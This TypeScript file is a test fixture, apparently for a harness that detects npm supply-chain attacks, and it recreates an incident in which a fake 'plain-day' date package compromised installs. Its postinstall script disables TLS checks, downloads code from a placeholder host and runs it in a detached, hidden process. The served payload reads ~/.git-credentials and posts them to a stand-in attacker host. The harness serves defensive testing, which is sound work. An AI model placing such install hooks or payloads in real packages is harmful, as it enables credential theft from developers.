import type { Incident } from '../harness/types.ts';

export const incident: Incident = {
  name: 'mastra',
  after: '@mastra packages with easy-day-js, June 2026',
  source: 'https://github.com/mastra-ai/mastra/issues/18047',
  shape: ['install', 'npm ci', 'new dependency', 'detached node child', 'TLS checks off', 'git credentials'],
  patterns: ['privilege_escalation', 'data_exfiltration', 'shadow_import'],
  culprits: ['plain-day', 'agent-core'],
  host: { kind: 'npm', npm: 'ci', setup: '', use: '' },
  good: { 'agent-core': { 'index.js': 'exports.agent = () => ({});' } },
  benign: { 'agent-core': { 'index.js': 'exports.agent = (o) => ({ ...o });' } },
  bad: {
    'agent-core': { 'index.js': 'exports.agent = () => ({});' },
    'plain-day': {
      'package.json': '{"scripts":{"postinstall":"node setup.cjs"}}',
      'index.js': 'exports.day = () => new Date();',
      'setup.cjs': `process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';
const http = require('http'), fs = require('fs'), path = require('path'), { spawn } = require('child_process');
http.get({ host: '@C@', port: @PORT@, path: '/update/8000' }, (r) => {
  let text = ''; r.setEncoding('utf8').on('data', (c) => (text += c)).on('end', () => {
    const at = path.join(require('os').tmpdir(), Math.random().toString(36).slice(2) + '.js');
    fs.writeFileSync(at, text);
    spawn(process.execPath, [at], { detached: true, stdio: 'ignore', windowsHide: true }).unref();
  });
}).on('error', () => {});`,
    },
  },
  serves: {
    '/update/8000': `const fs = require('fs'), http = require('http');
fs.readFile(process.env.HOME + '/.git-credentials', 'utf8', (e, d) => { const r = http.request({ host: '@A@', port: @PORT@, path: '/o', method: 'POST' }, (s) => s.resume()); r.on('error', () => {}); r.end(Buffer.from(d).toString('base64')); });`,
  },
  proof: [{ secret: true }],
};
